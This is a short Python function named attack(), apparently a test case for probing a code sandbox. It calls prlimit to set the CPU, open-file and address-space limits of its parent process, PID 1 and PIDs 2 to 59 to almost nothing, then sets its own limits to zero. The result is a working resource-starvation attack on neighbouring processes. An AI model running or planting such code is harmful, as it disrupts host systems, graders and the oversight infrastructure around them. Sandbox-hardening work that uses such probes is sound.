# Sets the limits of its relatives to nothing by prlimit, and its own.
def attack():
    import posix
    import sys

    sys.modules.pop("resource", None)
    import resource

    won = False
    for target in [posix.getppid(), 1, *range(2, 60)]:
        if target == posix.getpid():
            continue
        for limit in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
            try:
                resource.prlimit(target, limit, (1, 1))
                won = True
            except (OSError, ValueError):
                pass
    for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_STACK, resource.RLIMIT_DATA):
        resource.setrlimit(limit, (0, 0))
    return won
